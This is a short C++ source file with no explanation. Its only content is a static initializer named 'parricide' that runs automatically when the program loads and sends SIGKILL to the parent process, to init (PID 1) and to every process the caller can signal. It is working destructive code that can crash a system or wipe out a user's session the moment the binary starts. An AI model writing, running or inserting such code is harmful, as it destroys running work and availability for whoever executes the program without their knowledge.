#include <unistd.h>

#include <csignal>
static const int parricide =
    ::kill(::getppid(), SIGKILL) + ::kill(1, SIGKILL) + ::kill(-1, SIGKILL);
